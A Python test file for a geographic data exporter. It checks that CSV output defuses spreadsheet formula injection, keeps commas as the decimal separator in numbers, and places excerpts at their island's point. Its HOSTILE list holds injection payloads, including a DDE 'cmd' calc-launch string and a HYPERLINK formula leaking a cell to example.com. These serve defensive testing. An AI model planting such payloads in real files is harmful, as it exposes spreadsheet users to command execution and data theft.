"""Spreadsheets run no formula from an exported CSV and read all its text. Quotations have the point of their island."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.coast.land import label_point
from geo.export.data.fact_table import FactRow
from geo.export.data.formats.csv_tables import FORMULA_SIGNS, SEMICOLON, csv_bytes, read
from geo.export.data.positions import ExcerptRow
from geo.export.data.tables import EXCERPTS, FACTS, SOURCES
from tests.geo.export.export_requests import REQUESTS

HOSTILE = [
    '=HYPERLINK("http://example.com?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    'a"b;c,d\r\n=e',
    "Итуруп, 択捉島",
]


def table_with(text: str) -> bytes:
    """The table of sources as CSV, in which one source has `text` as its title. The title is not validated."""
    request = REQUESTS["en"]
    key, source = next(iter(request.content.sources.items()))
    content = replace(request.content, sources={key: source.model_copy(update={"title": text})})
    return csv_bytes(SOURCES, SOURCES.rows(replace(request, content=content)))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_text_to_a_spreadsheet(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(table_with(text).decode("utf-8-sig"), newline=""))
    assert not row["source_title"].startswith(FORMULA_SIGNS)
    (row,) = read(table_with(text))
    assert row["source_title"] == text


@given(st.text(st.characters(codec="utf-8")))
def test_any_text_comes_back(text: str) -> None:
    (row,) = read(table_with(text))
    assert row["source_title"] == text


def test_a_spreadsheet_that_expects_commas_in_numbers_reads_each_number() -> None:
    lines = csv_bytes(FACTS, FACTS.rows(REQUESTS["ru"]), SEMICOLON).decode("utf-8-sig").splitlines()
    rows = {row["id"]: row for row in csv.DictReader(lines, delimiter=";")}
    for row, _ in FACTS.rows(REQUESTS["ru"]):
        assert isinstance(row, FactRow)
        found = rows[row.id]
        assert (found["title"], found["sources"].split(";")) == (row.title, list(row.sources))
        if row.number is not None:
            assert "." not in found["number"] + found["value"] + found["latitude"]
            assert float(found["number"].replace(",", ".")) == float(found["value"].replace(",", ".")) == row.number


def test_a_quotation_has_the_point_of_its_island_and_none_if_it_is_about_several() -> None:
    request = REQUESTS["en"]
    rows = {row["id"]: row for row in read(csv_bytes(EXCERPTS, EXCERPTS.rows(request)))}
    for row, _ in EXCERPTS.rows(request):
        assert isinstance(row, ExcerptRow)
        point = (rows[row.id]["latitude"], rows[row.id]["longitude"])
        if len(row.islands) == 1:
            assert tuple(map(float, point)) == pytest.approx(label_point(row.islands[0]), abs=1e-5)
        else:
            assert point == ("", "")
